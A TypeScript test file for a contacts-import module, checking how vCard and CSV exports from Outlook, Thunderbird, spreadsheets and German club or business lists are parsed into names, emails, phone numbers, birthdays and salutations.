import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { CADENCES } from '../../src/contacts/cadence';
import type { ContactDraft } from '../../src/contacts/fields';
import { createContact } from '../../src/contacts/merge';
import {
  makeBackup,
  parseContactsFile,
  readRows,
  unreadColumns,
  writeGoogleCsv,
  writeSheetCsv,
  writeVCards,
} from '../../src/interchange';
import { readCadence } from '../../src/interchange/cadence-words';
import { decodeLegacy, type LegacyEncoding } from '../../src/interchange/decode';
import { MAX_IMPORT_BYTES } from '../../src/interchange/types';

const file = (name: string) => new Uint8Array(readFileSync(new URL(`../fixtures/contacts/${name}`, import.meta.url)));
const utf8 = (s: string) => new TextEncoder().encode(s);
/** The day these tests read files on (a CSV's two-digit years depend on it). */
const READ_ON = { year: 2026, month: 12, day: 3 };

describe('vCard import', () => {
  it('2.1 with QUOTED-PRINTABLE, CHARSET, soft line breaks and bare types; a card without a name takes its email', () => {
    const r = parseContactsFile(file('outlook-2.1.vcf'), 'outlook-2.1.vcf');
    expect(r.format).toBe('vcard');
    expect(r.contacts).toHaveLength(2);
    expect(r.contacts[0]).toMatchObject({
      name: 'Jürgen Müller',
      company: 'Bäckerei Müller',
      role: 'Inhaber',
      emails: ['juergen@example.de'],
      phones: ['+49 221 555 0100'],
      profiles: [{ site: 'xing', url: 'https://www.xing.com/profile/Juergen_Mueller' }],
    });
    expect(r.contacts[0]?.notes).toContain('Kennen uns aus dem Verein.');
    expect(r.contacts[1]).toMatchObject({ name: 'nur-mail@example.org', emails: ['nur-mail@example.org'] });
    expect(r.errors).toEqual([]);
  });

  it('2.1 QUOTED-PRINTABLE without a CHARSET (an old mail program, a Polish name): no U+FFFD, the code page guessed', () => {
    const r = parseContactsFile(file('outlook-2.1-polish-qp-nocharset.vcf'), 'kontakt.vcf');
    expect(r.contacts.map((c) => [c.name, c.company, c.notes])).toEqual([
      ['Łukasz Wróbel', 'Przedsiębiorstwo Żółć', 'Spotkanie we Wrocławiu, źródło: targi'],
      ['Zofia Ślęzak', undefined, undefined],
    ]);
    expect(JSON.stringify(r.contacts)).not.toContain('\ufffd');
    expect(r).toMatchObject({ encoding: 'windows-1250', encodingGuessed: true });
  });

  it('2.1 QUOTED-PRINTABLE whose CHARSET is wrong (a phone wrote Latin-1 bytes as UTF-8): by evidence, no U+FFFD', () => {
    const vcf = [
      'BEGIN:VCARD',
      'VERSION:2.1',
      'N;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:K=F6hler;J=FCrgen',
      'FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:J=FCrgen K=F6hler',
      'ORG;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:B=C3=A4ckerei',
      'END:VCARD',
    ].join('\r\n');
    const r = parseContactsFile(utf8(vcf), 'kontakt.vcf');
    // The name's bytes are no UTF-8, read as the code page they fit; the company's are UTF-8, read as labelled.
    expect(r.contacts.map((c) => [c.name, c.company])).toEqual([['Jürgen Köhler', 'Bäckerei']]);
  });

  it('3.0 and 4.0: escapes, grouped URL, X-SOCIALPROFILE, birthdays, folded lines, photo URI; no name → an error', () => {
    const r = parseContactsFile(file('mixed-3.0-4.0.vcf'), 'contacts.vcf');
    expect(r.contacts).toHaveLength(3);
    expect(r.contacts[0]).toEqual({
      name: 'Jane Roe',
      company: 'Example Ltd., Inc.',
      role: 'Head of Design',
      emails: ['jane@example.com'],
      notes: 'Met at a conference\nin Berlin, 2024.',
      profiles: [
        { site: 'linkedin', url: 'https://www.linkedin.com/in/jane-roe' },
        { site: 'github', url: 'https://github.com/janeroe' },
      ],
      birthday: { year: 1985, month: 4, day: 23 },
      photoUrl: 'https://example.com/jane.jpg',
      circles: ['Clients', 'Design'],
    });
    expect(r.contacts[1]).toMatchObject({
      name: 'Max Mustermann',
      birthday: { month: 6, day: 12 },
      phones: ['+49-30-5550100'],
    });
    expect(r.contacts[1]?.notes).toBe(
      'A very long note that goes on and on so that the line has to be folded by the exporting application, as RFC 6350 says.',
    );
    expect(r.contacts[2]?.name).toBe('');
    expect(r.errors).toEqual([{ code: 'noName', record: 3, line: 26 }]);
  });
});

describe("a card's REV: when the file says the person was last changed", () => {
  it('is read in either form, as UTC; a card without one, or with one that is no date, has none', () => {
    const card = (rev: string) => `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Rita Rev\r\n${rev}END:VCARD\r\n`;
    const read = (rev: string) => parseContactsFile(utf8(card(rev)), 'rita.vcf').contacts[0]?.writtenAt;
    expect(read('REV:20240311T101500Z\r\n')).toBe(Date.UTC(2024, 2, 11, 10, 15, 0));
    expect(read('REV:2024-03-11T10:15:00Z\r\n')).toBe(Date.UTC(2024, 2, 11, 10, 15, 0));
    expect(read('REV:2024-03-11\r\n')).toBe(Date.UTC(2024, 2, 11));
    expect(read('')).toBeUndefined();
    expect(read('REV:gestern\r\n')).toBeUndefined();
  });
});

describe('transfer encodings and dates as other programs write them', () => {
  it('base64 text values (3.0 ENCODING=b, bare BASE64) are decoded; a value that is not base64 stays as written', () => {
    const vcf = [
      'BEGIN:VCARD\nVERSION:3.0\nFN:A\nNOTE;ENCODING=b:THVkd2lnLUfDtnR6IEdyYcOfbA==\nEND:VCARD',
      'BEGIN:VCARD\nVERSION:2.1\nFN:B\nNOTE;BASE64:TGllYmxpbmdzZmFyYmU6IFZpb2xldHQ=\nEND:VCARD',
      'BEGIN:VCARD\nVERSION:3.0\nFN:C\nNOTE;ENCODING=b:not base64 at all!\nEND:VCARD',
    ].join('\n');
    const r = parseContactsFile(utf8(vcf), 'x.vcf');
    expect(r.contacts.map((c) => c.notes)).toEqual([
      'Ludwig-Götz Graßl',
      'Lieblingsfarbe: Violett',
      'not base64 at all!',
    ]);
  });

  it('slash dates are read where the numbers say the order; an ambiguous one in a file that disagrees is said, not guessed', () => {
    const csv = 'Name,Birthday\nDay First,20/01/1991\nMonth First,1/20/1991\nEither,03/04/1991\n';
    const r = parseContactsFile(utf8(csv), 'x.csv');
    expect(r.contacts.map((c) => c.birthday)).toEqual([
      { year: 1991, month: 1, day: 20 },
      { year: 1991, month: 1, day: 20 },
      undefined,
    ]);
    expect(r.errors).toEqual([{ code: 'unreadBirthday', record: 3, line: 4, detail: '03/04/1991' }]);
  });

  it('dates parted by dashes, as Dutch and Belgian lists write them, are read as slash dates are', () => {
    const dutch = parseContactsFile(
      utf8('Voornaam;Achternaam;Geboortedatum\nAnna;Alt;23-04-1985\nBen;Berg;3-4-1991\nCem;Can;1-2-85\n'),
      'x.csv',
      READ_ON,
    );
    // 23 cannot be a month: the file's dates are day first, so 3-4-1991 is 3 April.
    expect(dutch.contacts.map((c) => c.birthday)).toEqual([
      { year: 1985, month: 4, day: 23 },
      { year: 1991, month: 4, day: 3 },
      { year: 1985, month: 2, day: 1 },
    ]);
    expect(dutch.errors).toEqual([]);
    // A file without a header: the column of such dates is the birthday.
    const bare = parseContactsFile(
      utf8('Anna Alt,anna@example.nl,23-04-1985\nBen Berg,ben@example.nl,30-11-1979\n'),
      'x.csv',
    );
    expect(bare.contacts[1]).toMatchObject({ name: 'Ben Berg', birthday: { year: 1979, month: 11, day: 30 } });
    // Alone, neither number says which is the day: said, not guessed; a slash and a dash in one date is no date.
    const alone = parseContactsFile(utf8('Name,Birthday\nA,03-04-1991\nB,03/04-1991\n'), 'x.csv');
    expect(alone.errors.map((e) => [e.code, e.detail])).toEqual([
      ['unreadBirthday', '03-04-1991'],
      ['unreadBirthday', '03/04-1991'],
    ]);
  });

  it("an ambiguous slash date takes its file's order, from the dates whose numbers say it", () => {
    const dayFirst = parseContactsFile(utf8('Name,Birthday\nA,03/04/1991\nB,20/01/1990\nC,\n'), 'x.csv');
    expect(dayFirst.contacts.map((c) => c.birthday)).toEqual([
      { year: 1991, month: 4, day: 3 },
      { year: 1990, month: 1, day: 20 },
      undefined,
    ]);
    expect(dayFirst.errors).toEqual([]);
    const monthFirst = parseContactsFile(utf8('Name,Birthday\nA,03/04/1991\nB,1/20/1990\n'), 'x.csv');
    expect(monthFirst.contacts[0]?.birthday).toEqual({ year: 1991, month: 3, day: 4 });
    // Nothing in the file says the order: not guessed, and said (Outlook's empty birthday, 0/0/00, is none).
    const alone = parseContactsFile(utf8('Name,Birthday\nA,03/04/1991\nB,soon\nC,0/0/00\n'), 'x.csv');
    expect(alone.contacts.map((c) => c.birthday)).toEqual([undefined, undefined, undefined]);
    expect(alone.errors.map((e) => [e.code, e.record, e.detail])).toEqual([
      ['unreadBirthday', 1, '03/04/1991'],
      ['unreadBirthday', 2, 'soon'],
    ]);
  });

  it('a date with its time, as databases and spreadsheets write a date column, is that date', () => {
    const csv =
      'Vorname;Nachname;Geburtstag\nA;Alt;23.04.1985 00:00:00\nB;Berg;1985-04-23 00:00\nC;Can;1985-04-23T00:00:00Z\n' +
      'D;Dahl;03/04/1991 12:00:00 AM\nE;Engel;4/23/1985 12:00:00 AM\nF;Falk;23.04.1985 25:00 Uhr\n';
    const r = parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    expect(r.contacts.map((c) => c.birthday)).toEqual([
      { year: 1985, month: 4, day: 23 },
      { year: 1985, month: 4, day: 23 },
      { year: 1985, month: 4, day: 23 },
      // Month first, as the file's other slash date (its time aside) says.
      { year: 1991, month: 3, day: 4 },
      { year: 1985, month: 4, day: 23 },
      undefined,
    ]);
    expect(r.errors).toEqual([{ code: 'unreadBirthday', record: 6, line: 7, detail: '23.04.1985 25:00 Uhr' }]);
  });

  it('a birthday written with an evening time is a midnight east of UTC: the next day; noon and the small hours are that day', () => {
    const vcf = [
      'BDAY:1980-06-01T22:00:00Z',
      'BDAY:19560411230000',
      'BDAY:1985-12-31T23:00:00Z',
      'BDAY:19730928T000000+0100',
      'BDAY:1985-04-23T12:00:00',
    ]
      .map((b, i) => ['BEGIN:VCARD', 'VERSION:3.0', `FN:P${i}`, b, 'END:VCARD'].join('\r\n'))
      .join('\r\n');
    expect(parseContactsFile(utf8(vcf), 'x.vcf').contacts.map((c) => c.birthday)).toEqual([
      { year: 1980, month: 6, day: 2 },
      { year: 1956, month: 4, day: 12 },
      { year: 1986, month: 1, day: 1 },
      { year: 1973, month: 9, day: 28 },
      { year: 1985, month: 4, day: 23 },
    ]);
    const csv =
      'Name;Geburtstag\nA;1980-06-01 22:00:00\nB;5/31/1980 11:00:00 PM\nC;01.06.1980 00:00:00\nD;01.06.1980 12:00\n';
    expect(parseContactsFile(utf8(csv), 'x.csv').contacts.map((c) => c.birthday)).toEqual([
      { year: 1980, month: 6, day: 2 },
      { year: 1980, month: 6, day: 1 },
      { year: 1980, month: 6, day: 1 },
      { year: 1980, month: 6, day: 1 },
    ]);
  });

  it('a phone number a spreadsheet saved in scientific notation is said, with the way to the whole number, and not kept', () => {
    const r = parseContactsFile(
      utf8('Vorname;Nachname;Mobil;Telefon\nRosa;Riedel;4,91701E+12;0221 555\nBen;Berg;+4.9170555E+11;\n'),
      'x.csv',
    );
    expect(r.contacts.map((c) => c.phones)).toEqual([['0221 555'], undefined]);
    expect(r.errors).toEqual([
      { code: 'shortenedPhone', record: 1, line: 2, detail: '4,91701E+12' },
      { code: 'shortenedPhone', record: 2, line: 3, detail: '+4.9170555E+11' },
    ]);
  });

  // A list opened and saved in a spreadsheet: the cells of digits alone were read as numbers and lost their leading
  // 0 or "+"; the numbers it kept as text (a space, a slash) say which. Each row: the file, then its numbers as read.
  it.each([
    [
      'a German list: a number written with its 0 says the bare ones lost theirs',
      'Name;Telefon;Mobil\nAnna Alt;030 1234567;1711234567\nBen Berg;30123456;\n',
      [['030 1234567', '01711234567'], ['030123456']],
    ],
    [
      'the "+" of a number of the German-speaking countries, and then their 0 too (no number written with it)',
      'Name,Phone,Mobile\nAnna Alt,491711234567,1711234567\nBen Berg,436641234567,41791234567\n',
      [
        ['+491711234567', '01711234567'],
        ['+436641234567', '+41791234567'],
      ],
    ],
    [
      'a calling code the file writes as text ("+33 …", "0044 …") is known for the bare ones',
      'Name,Phone\nA,+33 6 12 34 56 78\nB,33612345678\nC,0044 20 7946 0000\nD,442079460000\n',
      [['+33 6 12 34 56 78'], ['+33612345678'], ['0044 20 7946 0000'], ['+442079460000']],
    ],
    [
      'a US list: ten digits are a whole number there, and no number says a 0 was lost',
      'Name,Phone\nAnna,2125551234\nBen,(212) 555-0100\nCora,+1 415 555 0100\nDan,14155550101\n',
      [['2125551234'], ['(212) 555-0100'], ['+1 415 555 0100'], ['+14155550101']],
    ],
    [
      'no calling code starts with 0 after it: a bare number of a German area code is a national one',
      'Name;Telefon\nA;0221 555\nB;41011234567\nC;49301234\n',
      [['0221 555'], ['041011234567'], ['049301234']],
    ],
    [
      "Reconnect's own list for Excel saved again: its number written as a formula of its text says the 0",
      'Name;Telefon 1\nA;"=""01701234567"""\nB;1711234567\n',
      [['01701234567'], ['01711234567']],
    ],
    [
      'what is no bare number stays as written: short, with letters, already whole',
      'Name;Telefon\nA;0171 1234567\nB;12345\nC;110 Notruf\nD;+49 (0)30 123\n',
      [['0171 1234567'], ['12345'], ['110 Notruf'], ['+49 (0)30 123']],
    ],
  ])('%s', (_, csv, phones) => {
    expect(parseContactsFile(utf8(csv), 'x.csv').contacts.map((c) => c.phones)).toEqual(phones);
  });

  it('each mended number is said with what it was read as; the rest of the row imports as it would', () => {
    const r = parseContactsFile(utf8('Vorname;Nachname;Telefon;Mobil\nRosa;Riedel;0221 555;1701234567\n'), 'x.csv');
    expect(r.errors).toEqual([{ code: 'mendedPhone', record: 1, line: 2, detail: '1701234567', read: '01701234567' }]);
    expect(r.contacts[0]).toMatchObject({ name: 'Rosa Riedel', phones: ['0221 555', '01701234567'] });
  });

  it('a date with two digits of its year is the latest such date not after the day it is read on', () => {
    const csv =
      'Name,Birthday\nA,23.04.85\nB,4/23/85\nC,1.2.05\nD,3.12.26\nE,4.12.26\nF,1.1.27\nG,31.02.85\nH,0/0/00\n' +
      'I,23.04.1985\nJ,12/31/26\nK,3. Dez. 26\nL,04-Dec-26\n';
    const r = parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    expect(r.contacts.map((c) => c.birthday)).toEqual([
      { year: 1985, month: 4, day: 23 },
      // Month first: 23 cannot be a month, so the file's slash dates are month first.
      { year: 1985, month: 4, day: 23 },
      { year: 2005, month: 2, day: 1 },
      // Born today is this century; tomorrow and later this year would be in the future: the century before.
      { year: 2026, month: 12, day: 3 },
      { year: 1926, month: 12, day: 4 },
      { year: 1927, month: 1, day: 1 },
      undefined,
      undefined,
      { year: 1985, month: 4, day: 23 },
      // The same rule for a slash date (its order found first) and for a month in words.
      { year: 1926, month: 12, day: 31 },
      { year: 2026, month: 12, day: 3 },
      { year: 1926, month: 12, day: 4 },
    ]);
    // No 31 February in any century: said, as before. Outlook's empty birthday (0/0/00) is none.
    expect(r.errors.map((e) => [e.code, e.record, e.detail])).toEqual([['unreadBirthday', 7, '31.02.85']]);
    // Read on another day, the same digits are another century only where that day says so.
    const yearsReadOn = (year: number, month: number, day: number) =>
      parseContactsFile(utf8(csv), 'x.csv', { year, month, day }).contacts.map((c) => c.birthday?.year);
    expect(yearsReadOn(2004, 6, 1)[2]).toBe(1905);
    expect(yearsReadOn(2026, 12, 4).slice(3, 5)).toEqual([2026, 2026]);
    expect(yearsReadOn(2026, 11, 30).slice(3, 5)).toEqual([1926, 1926]);
    // An ambiguous one takes the file's order, as four-digit years do.
    const dayFirst = parseContactsFile(utf8('Name,Birthday\nA,03/04/91\nB,20/01/90\n'), 'x.csv', READ_ON);
    expect(dayFirst.contacts[0]?.birthday).toEqual({ year: 1991, month: 4, day: 3 });
  });

  it("a birthday's month in words is read in the import's languages, and a list's day and month without a year", () => {
    const written: [string, { year?: number; month: number; day: number } | undefined][] = [
      ['23. April 1985', { year: 1985, month: 4, day: 23 }],
      ['23 Apr 1985', { year: 1985, month: 4, day: 23 }],
      ['23-Apr-85', { year: 1985, month: 4, day: 23 }],
      ['23.Apr.1985', { year: 1985, month: 4, day: 23 }],
      ['12. Dez. 1970', { year: 1970, month: 12, day: 12 }],
      ['1. Jänner 1990', { year: 1990, month: 1, day: 1 }],
      ['23. März', { month: 3, day: 23 }],
      ['23. Maerz', { month: 3, day: 23 }],
      ['April 23, 1985', { year: 1985, month: 4, day: 23 }],
      ['Apr. 23 1985', { year: 1985, month: 4, day: 23 }],
      ['Sept 2nd', { month: 9, day: 2 }],
      ['3 mai 1990', { year: 1990, month: 5, day: 3 }],
      ['23 août 1985', { year: 1985, month: 8, day: 23 }],
      ['23 stycznia 1985', { year: 1985, month: 1, day: 23 }],
      ['7 maggio 1979', { year: 1979, month: 5, day: 7 }],
      ['23.4.', { month: 4, day: 23 }],
      ['23.04.', { month: 4, day: 23 }],
      ['23 Foo 1985', undefined],
      ['June 31, 1985', undefined],
      ['April', undefined],
      ['23 Apr 1985 or so', undefined],
    ];
    const csv = `Name,Birthday\n${written.map(([v], i) => `P${i},"${v}"`).join('\n')}\n`;
    const r = parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    expect(r.contacts.map((c) => c.birthday)).toEqual(written.map(([, b]) => b));
    // What is not read is said, as before.
    expect(r.errors.map((e) => e.detail)).toEqual(['23 Foo 1985', 'June 31, 1985', 'April', '23 Apr 1985 or so']);
  });

  it('an email cell that holds no address is said in the preview, and the person comes in without it', () => {
    const csv =
      'Name,E-Mail,E-Mail 2\nAnna Berg,anna at example.org,anna@example.org\nBen Ott,-,n/a\n' +
      'Cem Aydin,cem@example.org ::: Büro,\nDana Dorn,,\n';
    const r = parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    expect(r.contacts.map((c) => [c.name, c.emails])).toEqual([
      ['Anna Berg', ['anna@example.org']],
      ['Ben Ott', []],
      ['Cem Aydin', ['cem@example.org']],
      ['Dana Dorn', []],
    ]);
    // A dash or "n/a" is an empty cell written another way: nothing to say.
    expect(r.errors.map((e) => [e.code, e.record, e.detail])).toEqual([
      ['unreadEmail', 1, 'anna at example.org'],
      ['unreadEmail', 3, 'Büro'],
    ]);
  });

  it('an email cell with several addresses, or a name with its address, gives each address on its own', () => {
    const csv =
      'Name,E-Mail\nAnna Berg,"anna@example.org; anna.berg@work.example, Anna Berg <anna@home.example>"\n' +
      'Ben Ott,Ben Ott <ben@intranet>\nCem Aydin,"cem@example.org, cem@example.org"\nDora Dietz,dora@@example.org\n';
    const r = parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    expect(r.contacts.map((c) => [c.name, c.emails])).toEqual([
      ['Anna Berg', ['anna@example.org', 'anna.berg@work.example', 'anna@home.example']],
      ['Ben Ott', ['ben@intranet']],
      ['Cem Aydin', ['cem@example.org']],
      // No address in it that the parser reads, but an @: kept as written, as every cell with one always was.
      ['Dora Dietz', ['dora@@example.org']],
    ]);
    expect(r.errors).toEqual([]);
  });

  it('a name column with the row\'s own names family name first (Thunderbird\'s "Doe, John") is turned round', () => {
    const csv =
      'First Name,Last Name,Display Name,Primary Email\nJohn,Doe,"Doe, John",john@doe.example\n' +
      'Hans-Jürgen,Müller-Lüdenscheidt,"Müller-Lüdenscheidt,  Hans-Jürgen",\n' +
      // Not the row's names the other way round: kept as written.
      'Jürgen,Müller,"Jürgen Müller, Jr.",\nAnna,Alt,"Alt, Dr. Anna",\n,,"Berg, Ben",\n';
    const r = parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    expect(r.contacts.map((c) => c.name)).toEqual([
      'John Doe',
      'Hans-Jürgen Müller-Lüdenscheidt',
      'Jürgen Müller, Jr.',
      'Alt, Dr. Anna',
      'Berg, Ben',
    ]);
    expect(r.errors).toEqual([]);
  });

  it('a name column mostly family name first ("Müller, Hans", a club\'s list) is offered turned round, the user to check', () => {
    const club =
      'Name;E-Mail\nMüller, Hans;hans@example.de\nvon Berg,  Eva-Maria;eva@example.de\nTeam Nord;nord@example.de\n';
    const r = parseContactsFile(utf8(club), 'mitglieder.csv', READ_ON);
    expect(r.csv).toMatchObject({ roles: ['familyFirst', 'email'], certain: false });
    // Turned round where the name is so written; a name that is not (a team, a suffix) as written.
    expect(r.contacts.map((c) => c.name)).toEqual(['Hans Müller', 'Eva-Maria von Berg', 'Team Nord']);
    // The user says the column is the name as written: read so.
    const asWritten = readRows(r.csv?.rows ?? [], ['name', 'email'], { firstLine: 2 });
    expect(asWritten.contacts.map((c) => c.name)).toEqual(['Müller, Hans', 'von Berg,  Eva-Maria', 'Team Nord']);
    // A header that says so is certain: nothing to ask.
    const said = parseContactsFile(utf8('"Nachname, Vorname",E-Mail\n"Alt, Anna",anna@example.de\n'), 'x.csv', READ_ON);
    expect(said.csv).toMatchObject({ roles: ['familyFirst', 'email'], certain: true });
    expect(said.contacts[0]?.name).toBe('Anna Alt');
  });

  it('"Name" beside a first name and no last name ("Name;Vorname", a German list) is the family name: nobody loses a part', () => {
    const read = (csv: string) => parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    const german = read('Name;Vorname;E-Mail\nRiedel;Rosa;rosa@example.de\n');
    expect(german.csv).toMatchObject({ roles: ['last', 'first', 'email'], certain: true });
    expect(german.contacts[0]).toMatchObject({ name: 'Rosa Riedel', emails: ['rosa@example.de'] });
    expect(read('First Name,Name\nRosa,Riedel\n').contacts[0]?.name).toBe('Rosa Riedel');
    // Beside a last name too, "Name" is the whole name; a display name is one whatever stands beside it.
    expect(read('Name;Vorname;Nachname\nRosa Riedel;Rosa;Riedel\n').csv?.roles).toEqual(['name', 'first', 'last']);
    expect(read('Anzeigename;Vorname\nRosa R.;Rosa\n').contacts[0]?.name).toBe('Rosa R.');
  });

  it('a salutation ("Anrede": Herr, Frau, Mr.) is no part of the name: the person is addressed formally; a title is', () => {
    const read = (csv: string) => parseContactsFile(utf8(csv), 'x.csv', READ_ON).contacts;
    // As invoicing tools export their clients: salutation and title in columns of their own.
    const clients = read(
      'Kundennummer;Firmenname;Anrede;Titel;Vorname;Nachname;E-Mail\n' +
        '10001;Muster GmbH;Herr;Dr.;Max;Mustermann;max@muster.de\n' +
        '10002;Beispiel AG;Frau;;Erika;Beispiel;erika@beispiel.de\n' +
        '10003;Alt Design;;;Anna;Alt;anna@alt.design\n',
    );
    expect(clients.map((c) => [c.name, c.formal])).toEqual([
      ['Dr. Max Mustermann', true],
      ['Erika Beispiel', true],
      ['Anna Alt', undefined],
    ]);
    // Both in one cell ("Herr Dr."), and English Outlook's "Title" beside its "Job Title" (a name prefix).
    // A couple addressed together: neither salutation is a name.
    expect(read('Anrede;Vorname;Nachname\nHerr und Frau;Max und Erika;Muster\n')[0]).toMatchObject({
      name: 'Max und Erika Muster',
      formal: true,
    });
    expect(read('Anrede;Vorname;Nachname\nHerr Dr.;Max;Muster\n')[0]).toMatchObject({
      name: 'Dr. Max Muster',
      formal: true,
    });
    const outlook = read('Title,First Name,Last Name,Job Title\nMrs.,Jane,Roe,CEO\nProf.,John,Doe,Dean\n');
    expect(outlook.map((c) => [c.name, c.role, c.formal])).toEqual([
      ['Jane Roe', 'CEO', true],
      ['Prof. John Doe', 'Dean', undefined],
    ]);
    // Without a first name the salutation is how she is named: "Frau Müller", greeted so ("Guten Tag Frau Müller").
    expect(read('Anrede;Vorname;Nachname\nFrau;;Müller\n')[0]).toMatchObject({ name: 'Frau Müller', formal: true });
    // A name column that is all there is keeps what it says: "Frau Müller", whose first name the user never knew.
    expect(read('Name;E-Mail\nFrau Müller;mueller@schule.example\n')[0]).toEqual({
      name: 'Frau Müller',
      emails: ['mueller@schule.example'],
    });
  });

  it('a company list\'s "Ansprechpartner" is the person, named with the salutation the list writes before the name', () => {
    const read = (csv: string) => parseContactsFile(utf8(csv), 'x.csv', READ_ON).contacts;
    const people = read(
      'Firma;Ansprechpartner;Telefon;E-Mail\n' +
        'Muster GmbH;Herr Max Muster;0221 123456;max@muster.example\n' +
        'Alt Design;Frau Dr. Anna Alt;;anna@alt.example\n' +
        'Berg & Söhne;Herr und Frau Berg;;\n' +
        'Cem Café;Cem Cakir;;\n',
    );
    expect(people.map((c) => [c.name, c.company, c.salutation, c.formal])).toEqual([
      ['Max Muster', 'Muster GmbH', 'Herr', true],
      ['Dr. Anna Alt', 'Alt Design', 'Frau', true],
      // A couple stays whole, as "Frau Müller" does.
      ['Herr und Frau Berg', 'Berg & Söhne', undefined, undefined],
      ['Cem Cakir', 'Cem Café', undefined, undefined],
    ]);
    for (const heading of ['Ansprechpartner/in', 'Kontaktperson', 'Contact person'])
      expect(read(`Firma;${heading}\nMuster GmbH;Max Muster\n`)[0]?.name, heading).toBe('Max Muster');
  });

  it('a German Outlook\'s vCard: its "Anrede" in N says the person is addressed formally; the name as FN writes it', () => {
    const card = (lines: string) =>
      parseContactsFile(utf8(`BEGIN:VCARD\r\nVERSION:2.1\r\n${lines}\r\nEND:VCARD\r\n`), 'Kontakt.vcf').contacts[0];
    expect(card('N;CHARSET=utf-8:Schmidt;Karl-Heinz;;Herr;\r\nFN;CHARSET=utf-8:Herr Karl-Heinz Schmidt')).toMatchObject(
      {
        name: 'Herr Karl-Heinz Schmidt',
        formal: true,
      },
    );
    expect(card('N:Kraft;Manuel;;Herr;\r\nFN:Kraft, Manuel')).toMatchObject({
      name: 'Manuel Kraft',
      salutation: 'Herr',
      formal: true,
    });
    expect(card('N:Alt;Anna;;Frau Dr.;\r\nFN:Frau Dr. Anna Alt')).toMatchObject({ salutation: 'Frau', formal: true });
    // A title alone addresses nobody.
    expect(card('N:Alt;Anna;;Dr.;\r\nFN:Dr. Anna Alt')).not.toHaveProperty('formal');
    expect(card('N:Alt;Anna;;Dr.;\r\nFN:Dr. Anna Alt')).not.toHaveProperty('salutation');
  });

  it("German lists' and Outlook's German headers: mobile numbers, dates of birth, \"Mail\", a title, towns; not an email's type or display", () => {
    const read = (csv: string) => parseContactsFile(utf8(csv), 'x.csv', READ_ON);
    const club = read(
      'Mitgliedsnr;Anrede;Titel;Familienname;Rufname;Tel.;Mobil;Mail;Geb.-Datum;Wohnort\n' +
        '17;Frau;Dr.;Riedel;Rosa;0221 123;0170 555;rosa@example.de;23.04.1985;Köln\n',
    );
    expect(club.csv?.certain).toBe(true);
    // "Anrede" is how she is addressed, not her name: addressed formally ("Sie") and greeted so ("Frau"), her title
    // part of her name.
    expect(club.contacts[0]).toEqual({
      name: 'Dr. Rosa Riedel',
      salutation: 'Frau',
      formal: true,
      emails: ['rosa@example.de'],
      phones: ['0221 123', '0170 555'],
      birthday: { year: 1985, month: 4, day: 23 },
      location: 'Köln',
    });
    const outlook = read(
      '"Vorname","Nachname","Ort geschäftlich","Mobiltelefon","E-Mail-Adresse","E-Mail-Typ","E-Mail: Angezeigter Name","E-Mail 2: Adresse"\n' +
        '"Rosa","Riedel","Köln","0170 555","rosa@example.de","SMTP","Rosa Riedel (rosa@example.de)","rosa@privat.example"\n',
    );
    expect(outlook.contacts[0]).toEqual({
      name: 'Rosa Riedel',
      emails: ['rosa@example.de', 'rosa@privat.example'],
      phones: ['0170 555'],
      location: 'Köln',
    });
    expect(outlook.errors).toEqual([]);
    // A club's list in its own words: the job, the employer, the group, remarks.
    const words = read(
      'Vorname Nachname;Beruf;Arbeitgeber;Gruppe;Bemerkungen;Geb.\nRosa Riedel;Ärztin;Klinikum;Vorstand;Kassenwartin;23.04.\n',
    );
    expect(words.contacts[0]).toMatchObject({
      name: 'Rosa Riedel',
      role: 'Ärztin',
      company: 'Klinikum',
      circles: ['Vorstand'],
      notes: 'Kassenwartin',
      birthday: { month: 4, day: 23 },
    });
    expect(words.csv?.certain).toBe(true);
    // Thunderbird's birthday in three columns, in English and German ("Geburtstag" beside the others is the day).
    const tb = read(
      'First Name,Last Name,Birth Year,Birth Month,Birth Day\nRosa,Riedel,1985,4,23\nBen,Berg,,12,1\nCem,Can,0,0,0\n',
    );
    expect(tb.contacts.map((c) => c.birthday)).toEqual([
      { year: 1985, month: 4, day: 23 },
      { month: 12, day: 1 },
      undefined,
    ]);
    expect(tb.errors).toEqual([]);
    const tbDe = read('Vorname,Nachname,Geburtsjahr,Geburtsmonat,Geburtstag\nRosa,Riedel,1985,4,23\n');
    expect(tbDe.csv?.roles).toEqual(['first', 'last', 'birthYear', 'birthMonth', 'birthDay']);
    expect(tbDe.contacts[0]?.birthday).toEqual({ year: 1985, month: 4, day: 23 });
    // A header with a hint in brackets is read by its words; a hint that it is about another value is heeded.
    const hinted = read(
      'Name (Nachname);Vorname;Geburtstag (TT.MM.JJJJ);E-Mail;E-Mail (Anzeigename);Telefon (Assistent)\n' +
        'Riedel;Rosa;23.04.1985;rosa@example.de;Rosa R. (rosa@example.de);0221 999\n',
    );
    expect(hinted.csv?.roles).toEqual(['last', 'first', 'birthday', 'email', 'ignore', 'ignore']);
    expect(hinted.contacts[0]).toEqual({
      name: 'Rosa Riedel',
      emails: ['rosa@example.de'],
      birthday: { year: 1985, month: 4, day: 23 },
    });
    // A list's postal code and town in one column: the town.
    expect(
      read('Name;Vorname;PLZ Ort\nRiedel;Rosa;D-50667 Köln\nBerg;Ben;10115 Berlin\n').contacts.map((c) => c.location),
    ).toEqual(['Köln', 'Berlin']);
    // A CRM's or a spreadsheet's English words.
    const crm = read('Full Name,Company Name,Cell,Tags\nRosa Riedel,Klinikum,0170 555,Vorstand\n');
    expect(crm.contacts[0]).toMatchObject({ company: 'Klinikum', phones: ['0170 555'], circles: ['Vorstand'] });
    // Several circles in one cell: Outlook's categories with the system's list separator (";" in German, "," in
    // English), a CRM's tags; Google's labels only by " ::: ", as a label may hold a comma.
    const outlookDe = read('Vorname;Nachname;Kategorien\nRosa;Riedel;"Kunden;Messe 2026"\nBen;Berg;Familie\n');
    expect(outlookDe.contacts.map((c) => c.circles)).toEqual([['Kunden', 'Messe 2026'], ['Familie']]);
